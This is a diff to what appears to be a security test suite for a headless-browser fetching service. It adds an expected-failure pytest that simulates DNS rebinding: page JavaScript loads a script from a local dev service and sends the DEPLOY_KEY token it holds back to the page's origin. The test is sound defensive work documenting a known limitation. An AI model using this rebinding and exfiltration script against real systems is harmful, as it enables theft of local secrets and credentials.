@@ -151,3 +151,63 @@ async def test_a_public_headless_page_cannot_read_a_local_service_and_send_it_ho
     else:
         assert any(h.startswith("/env.js") for h in dev_server.hits), dev_server.hits
         assert any(TOKEN in h for h in sent), sent
+
+
+@pytest.mark.xfail(
+    strict=True,
+    raises=AssertionError,
+    reason=(
+        "open (DNS rebinding, SECURITY.md known limits): Chromium resolves a name again itself, so a name trawl's "
+        "check placed on the internet can reach a local service when the page's request is sent; the page is "
+        "judged private afterwards (Page.addresses), but its script already sent what it read to its own origin"
+    ),
+)
+async def test_a_rebinding_name_cannot_carry_a_local_service_to_a_public_page(
+    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hits: list[str] = []
+    local: list[str] = []
+
+    async def dev(request: web.Request) -> web.Response:
+        local.append(str(request.rel_url))
+        return web.Response(text=f"window.DEPLOY_KEY = {json.dumps(TOKEN)};", content_type="application/javascript")
+
+    async def handle(request: web.Request) -> web.Response:
+        hits.append(str(request.rel_url))
+        if request.path == "/c":
+            return web.Response(text="the collector answered")
+        script = f"""<script src="http://rebind.test:{dev_port}/env.js"></script><script>
+          fetch('/c?k=' + encodeURIComponent(String(window.DEPLOY_KEY)))
+            .then(r => r.text(), () => 'failed').then(t => {{
+              document.querySelector('#out').textContent = {json.dumps(" ".join([FILLER] * 3))} + ' ' + t; }});
+        </script>"""
+        return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")
+
+    monkeypatch.setattr(socket, "getaddrinfo", Rebinding([["93.184.215.14"]]))  # trawl: a public address
+    runners = []
+    ports = []
+    for handler in (dev, handle):
+        app = web.Application()
+        app.router.add_get("/{tail:.*}", handler)
+        runner = web.AppRunner(app, access_log=None)
+        await runner.setup()
+        await web.TCPSite(runner, "127.0.0.2", 0).start()  # Chromium: rebind.test is 127.0.0.2
+        runners.append(runner)
+        ports.append(int(runner.addresses[0][1]))
+    dev_port, port = ports
+    settings = daemon_settings(
+        tmp_path, chromium_path=chromium, render_empty_wait_s=40.0, render_timeout_s=50.0, request_timeout_s=90.0
+    )
+    sources = [
+        HttpSource(settings),
+        PlaywrightSource(settings, extra_args=("--host-resolver-rules=MAP rebind.test 127.0.0.2",)),
+    ]
+    try:
+        async with RunningDaemon(settings, sources=sources, warm=False) as d:
+            body = await v1_fetch(d, f"http://rebind.test:{port}/harbour", query="", source="playwright")
+    finally:
+        for runner in runners:
+            await runner.cleanup()
+    sent = [h for h in hits if h.startswith("/c")]
+    assert sent or body["ok"] is False, (hits, body)  # the script ran to its fetch, or the page was refused
+    assert not any(TOKEN in h for h in sent), f"the page's origin received {sent} (local service asked: {local})"
